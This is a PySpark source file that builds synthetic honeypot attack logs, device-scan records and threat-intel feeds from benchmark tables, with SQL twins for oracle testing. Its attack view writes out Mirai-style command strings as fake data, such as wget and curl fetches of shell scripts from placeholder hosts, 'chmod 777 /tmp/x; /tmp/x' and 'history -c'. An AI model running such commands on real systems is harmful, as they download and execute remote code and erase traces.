"""Views that give star-schema and text tables the shapes of telemetry tables.

Each view is one SELECT of portable SQL, so Spark and a SQL oracle build it from the same text; only the device type is
added by each side on its own.
"""

from __future__ import annotations

from functools import cached_property

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from telemill.operators.classify import device_text, type_of_text

ATTACKS = """
SELECT event_id AS record_id, CAST(ts AS TIMESTAMP) AS event_time, CAST(ts AS DATE) AS day,
    concat('100.64.', CAST(CAST(floor(user_id / 256) AS INT) AS STRING), '.', CAST(user_id % 256 AS STRING)) AS source_ip,
    CASE k % 8 WHEN 0 THEN 22 WHEN 1 THEN 23 WHEN 2 THEN 80 WHEN 3 THEN 2323 WHEN 4 THEN 7547 WHEN 5 THEN 5555 WHEN 6 THEN 8080 ELSE 1883 END AS dest_port,
    CASE event_id % 4 WHEN 0 THEN 'cowrie' WHEN 1 THEN 'opencanary' WHEN 2 THEN 'glutton' ELSE 'dionaea' END AS honeypot,
    CASE k % 8 WHEN 0 THEN 'ssh' WHEN 1 THEN 'telnet' WHEN 2 THEN 'http' WHEN 3 THEN 'telnet' WHEN 4 THEN 'tr069' WHEN 5 THEN 'adb' WHEN 6 THEN 'http' ELSE 'mqtt' END AS protocol,
    CASE event_type WHEN 'signup' THEN 'login.success' WHEN 'error' THEN 'login.failed' WHEN 'click' THEN 'command.input' WHEN 'view' THEN 'session.connect' ELSE 'session.file_download' END AS event_type,
    concat(CAST(user_id AS STRING), '-', CAST(CAST(floor(event_id / 40) AS BIGINT) AS STRING)) AS session_id,
    CASE WHEN event_type IN ('signup', 'error') THEN CASE k % 5 WHEN 0 THEN 'root' WHEN 1 THEN 'admin' WHEN 2 THEN 'user' WHEN 3 THEN 'pi' ELSE '' END END AS username,
    CASE WHEN event_type IN ('signup', 'error') THEN concat('pass', CAST(k % 7 AS STRING)) END AS password,
    CASE WHEN event_type = 'click' THEN CASE k % 10 WHEN 0 THEN 'uname -a' WHEN 1 THEN 'cat /proc/cpuinfo' WHEN 2 THEN concat('wget http://dl', CAST(k % 9 AS STRING), '.example.net/bins/', CAST(k % 31 AS STRING), '.sh')
        WHEN 3 THEN '/bin/busybox MIRAI' WHEN 4 THEN 'chmod 777 /tmp/x; /tmp/x' WHEN 5 THEN 'rm -rf /tmp/x' WHEN 6 THEN 'crontab -l' WHEN 7 THEN 'curl -O http://198.51.100.7/a.sh' WHEN 8 THEN 'history -c' ELSE 'cat /proc/mounts' END END AS command_str,
    CASE WHEN event_type = 'purchase' THEN concat('http://dl', CAST(k % 9 AS STRING), '.example.net/bins/', CAST(k % 31 AS STRING), '.sh') END AS download_url,
    CASE WHEN event_type = 'purchase' THEN lpad(CAST(k % 17 AS STRING), 64, 'a') END AS file_hash,
    CASE WHEN k % 8 IN (0, 1, 3) THEN lpad(CAST(user_id % 12 AS STRING), 32, 'b') END AS hassh
FROM (SELECT *, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k FROM {events}) e
"""

DEVICES = """
SELECT CASE l_orderkey % 2 WHEN 0 THEN 'shodan' ELSE 'censys' END AS source, CAST(date_trunc('week', l_shipdate) AS DATE) AS snapshot_week, CAST(l_shipdate AS DATE) AS snapshot_date,
    concat('100.64.', CAST(CAST(floor(l_partkey / 256) AS INT) AS STRING), '.', CAST(l_partkey % 256 AS STRING)) AS ip,
    CASE (l_orderkey + l_linenumber) % 12 WHEN 0 THEN 22 WHEN 1 THEN 23 WHEN 2 THEN 80 WHEN 3 THEN 443 WHEN 4 THEN 554 WHEN 5 THEN 1080 WHEN 6 THEN 1883 WHEN 7 THEN 2323 WHEN 8 THEN 3128 WHEN 9 THEN 7547 WHEN 10 THEN 8080 ELSE 8888 END AS port,
    CASE l_suppkey % 5 WHEN 0 THEN 'http' WHEN 1 THEN 'mqtt' WHEN 2 THEN 'ssh' WHEN 3 THEN 'socks5-proxy' ELSE '' END AS protocol,
    p_name AS product, CASE l_suppkey % 10 WHEN 0 THEN 'nginx' WHEN 1 THEN 'GoAhead-Webs' WHEN 2 THEN 'squid/4.1' WHEN 3 THEN 'Hikvision-Webs' WHEN 4 THEN 'mini_httpd' WHEN 5 THEN 'Apache' WHEN 6 THEN '' WHEN 7 THEN 'lighttpd' WHEN 8 THEN 'unknownd' END AS http_server,
    CASE l_partkey % 7 WHEN 0 THEN 'BusyBox v1.1' WHEN 1 THEN 'alarm board' WHEN 2 THEN 'SOCKS5 ready' WHEN 3 THEN 'RTSP/1.0' END AS raw_banner,
    n_name AS country_code, l_suppkey AS asn, s_name AS org,
    CASE l_partkey % 4 WHEN 0 THEN 'q_iot,q_proxy' WHEN 1 THEN 'q_iot' WHEN 2 THEN 'q_proxy,q_smtp' ELSE 'q_malware,q_iot' END AS query_list,
    CASE l_partkey % 3 WHEN 0 THEN 'iot' WHEN 1 THEN 'proxy' ELSE 'malware' END AS query_category,
    CASE l_partkey % 4 WHEN 0 THEN 'cloud,vpn' WHEN 1 THEN 'iot' WHEN 2 THEN 'honeypot' ELSE '' END AS tag_list, l_orderkey * 10 + l_linenumber AS seq
FROM {lineitem} JOIN {part} ON l_partkey = p_partkey JOIN {supplier} ON l_suppkey = s_suppkey JOIN {nation} ON s_nationkey = n_nationkey
"""

FEEDS = """
SELECT CASE c_custkey % 4 WHEN 0 THEN 'threatfox' WHEN 1 THEN 'urlhaus' WHEN 2 THEN 'malwarebazaar' ELSE 'otx' END AS source,
    CASE c_custkey % 4 WHEN 0 THEN 'ip:port' WHEN 1 THEN 'url' WHEN 2 THEN 'sha256' ELSE 'ip' END AS ioc_type,
    CASE c_custkey % 4 WHEN 0 THEN concat('100.64.', CAST(CAST(floor(c_custkey / 256) AS INT) AS STRING), '.', CAST(c_custkey % 256 AS STRING), ':', CASE c_custkey % 3 WHEN 0 THEN '1080' WHEN 1 THEN '8080' ELSE '23' END)
        WHEN 1 THEN concat('http://dl', CAST(c_custkey % 9 AS STRING), '.example.net/bins/', CAST(c_custkey % 47 AS STRING), '.sh')
        WHEN 2 THEN lpad(CAST(c_custkey % 40 AS STRING), 64, 'a')
        ELSE concat('100.64.', CAST(CAST(floor(c_custkey / 256) AS INT) AS STRING), '.', CAST(c_custkey % 256 AS STRING)) END AS ioc_value,
    CASE WHEN c_custkey % 4 IN (0, 3) THEN concat('100.64.', CAST(CAST(floor(c_custkey / 256) AS INT) AS STRING), '.', CAST(c_custkey % 256 AS STRING)) END AS ip,
    CASE WHEN c_custkey % 4 = 0 THEN CASE c_custkey % 3 WHEN 0 THEN 1080 WHEN 1 THEN 8080 ELSE 23 END END AS port,
    CASE WHEN c_custkey % 11 = 0 THEN '' ELSE lower(c_mktsegment) END AS malware_family, CAST(50 + c_custkey % 50 AS INT) AS confidence,
    DATE '2024-01-01' + CAST(c_custkey % 20 AS INT) AS snapshot_date, c_custkey AS seq
FROM {customer}
"""

#: The SQL twin of classify.device_type without tags, for oracles.
DEVICE_TYPE_SQL = """
CASE WHEN port = 554 OR regexp_matches(txt, '{camera}') THEN 'camera'
     WHEN port = 7547 OR regexp_matches(txt, '{router}') THEN 'router'
     WHEN regexp_matches(txt, '{proxy}') OR lower(coalesce(product, '')) IN ('socks5-proxy', 'socks4-proxy', 'http-connect') OR (port IN (1080, 3128) AND txt <> '') THEN 'proxy'
     WHEN regexp_matches(txt, '{iot}') OR lower(coalesce(product, '')) IN ('mqtt', 'coap') THEN 'iot'
     WHEN regexp_matches(txt, '{server}') THEN 'server' ELSE 'unknown' END
"""


def oracle_views() -> str:
    """The views as common table expressions of a SQL engine."""
    from telemill.functions import rules

    plain = lambda words: "|".join(w.replace(".", "[.]") for w in words)
    names = {t: t for t in ("events", "lineitem", "part", "supplier", "nation", "customer")}
    kind = DEVICE_TYPE_SQL.format(camera=plain(rules.CAMERA_WORDS), router=plain(rules.ROUTER_WORDS), proxy=plain(rules.PROXY_WORDS), iot=plain(rules.IOT_WORDS), server=plain(rules.SERVER_WORDS))
    text = "lower(concat_ws(' ', nullif(product, ''), nullif(http_server, ''), nullif(raw_banner, '')))"
    return (
        f"attacks AS ({ATTACKS.format(**names)}), device_rows AS ({DEVICES.format(**names)}), feeds AS ({FEEDS.format(**names)}), "
        f"devices AS (SELECT * EXCLUDE (txt), {kind} AS device_type FROM (SELECT *, {text} AS txt FROM device_rows))"
    )


class Tables:
    """The views over the Parquet tables of a folder."""

    def __init__(self, spark: SparkSession, sf_dir: str):
        self.spark, self.sf_dir = spark, sf_dir

    def table(self, name: str) -> DataFrame:
        return self.spark.read.parquet(f"{self.sf_dir}/{name}.parquet")

    def _view(self, sql: str, *names: str) -> DataFrame:
        return self.spark.sql(sql, **{n: self.table(n) for n in names})

    @cached_property
    def attacks(self) -> DataFrame:
        return self._view(ATTACKS, "events")

    @cached_property
    def devices(self) -> DataFrame:
        rows = self._view(DEVICES, "lineitem", "part", "supplier", "nation")
        rows = rows.withColumn("_text", device_text("product", "http_server", F.lit(None).cast("string"), "raw_banner"))
        return rows.withColumn("device_type", type_of_text(F.col("_text"), F.col("product"), F.col("port"))).drop("_text")

    def devices_of(self, *types: str) -> DataFrame:
        """devices of some types.

        The type goes through an array, because a filter on it would be pushed below its own column: it would then be worked out twice for each row.
        """
        others = [c for c in self.devices.columns if c != "device_type"]
        return self.devices.select(*others, F.explode(F.array("device_type")).alias("device_type")).filter(F.col("device_type").isin(*types))

    @cached_property
    def feeds(self) -> DataFrame:
        return self._view(FEEDS, "customer")
